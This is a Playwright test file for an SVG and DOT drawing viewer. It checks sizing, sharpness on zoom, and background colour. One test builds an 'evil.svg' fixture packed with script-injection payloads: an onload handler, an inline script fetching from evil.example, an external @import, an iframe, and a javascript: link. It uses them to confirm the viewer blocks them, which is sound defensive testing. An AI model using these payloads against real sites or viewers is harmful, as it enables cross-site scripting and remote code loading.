import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { guarded } from "./again.ts";
import { closed, colourAt, colours, expect, opened, serveZoo, test } from "./zoo.ts";

test.use({ contextOptions: { reducedMotion: "reduce" } });

test("a drawing opens as large as its frame and is sharp when it is enlarged", async ({ page, zoo }) => {
  const viewer = await opened(page, zoo, "file://samples/compass.svg", "svg");
  const sheet = viewer.locator(".sheet");
  await expect(viewer.locator(".signs")).toBeVisible();
  await expect(viewer.locator(".facts")).toContainText(/^SVG · /);
  const frame = (await viewer.locator(".view").boundingBox()) as { width: number; height: number };
  const box = (await sheet.boundingBox()) as { width: number; height: number };
  expect(Math.min(frame.width - box.width, frame.height - box.height)).toBeLessThan(4);
  expect(await colours(page, viewer.locator(".view"))).toBeGreaterThan(8);
  const few = await colours(page, viewer.locator(".view"));
  for (let turn = 0; turn < 6; turn++) await page.keyboard.press("+");
  await expect
    .poll(async () => ((await sheet.boundingBox()) as { width: number }).width)
    .toBeGreaterThan(box.width * 10);
  // An enlarged picture is a blur of ever more colours, an enlarged drawing has edges.
  expect(await colours(page, viewer.locator(".view"))).toBeLessThan(few * 2);
  await closed(page);
});

test.describe("drawings", { tag: "@full" }, () => {
  test("other kinds of drawing come as one", async ({ page, zoo }) => {
    const viewer = await opened(page, zoo, "vector/g.dot", "svg");
    await expect(viewer.locator(".facts")).toContainText("DOT, shown as SVG");
    expect(await colours(page, viewer.locator(".view"))).toBeGreaterThan(8);
    await closed(page);
  });

  test("it stands on white, whatever the page is, and on another ground if that is asked for", async ({
    page,
    zoo,
  }) => {
    await page.emulateMedia({ colorScheme: "dark" });
    const viewer = await opened(page, zoo, "vector/line-cap-line-join.svg", "svg");
    await expect(viewer.locator(".signs")).toBeVisible();
    expect(await colourAt(page, viewer.locator(".sheet"), 0.01, 0.01)).toEqual([255, 255, 255]);
    await viewer.getByRole("button", { name: "Another background" }).press("Enter");
    await expect.poll(() => colourAt(page, viewer.locator(".sheet"), 0.01, 0.01)).toEqual([16, 20, 22]);
    await closed(page);
  });

  test("scripts in it do not run, and it loads nothing from elsewhere", async ({ page }) => {
    const folder = mkdtempSync(join(tmpdir(), "omnic-drawings-"));
    writeFileSync(
      join(folder, "evil.svg"),
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="parent.pwned=1">
<script>top.pwned = 1; fetch("https://evil.example/script")</script><style>@import "https://evil.example/style.css";</style>
<image href="https://evil.example/picture.png" width="9" height="9"/><rect width="90" height="60" fill="#2a7f3b"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"></iframe></foreignObject>
<a xlink:href="javascript:top.pwned=1"><rect width="90" height="60" fill="transparent"/></a></svg>`,
    );
    const evil = await serveZoo("", {}, { evil: folder });
    const harmless = guarded(page, evil.url);
    const viewer = await opened(page, evil, "file://evil/evil.svg", "svg");
    await expect(viewer.locator(".signs")).toBeVisible();
    const [red, green, blue] = (await colourAt(page, viewer.locator(".sheet"), 0.5, 0.5)) as [number, number, number];
    expect([red, green, blue]).toEqual([0x2a, 0x7f, 0x3b]);
    await viewer.locator(".sheet").click();
    await harmless();
    await evil.stop();
    rmSync(folder, { recursive: true });
  });
});
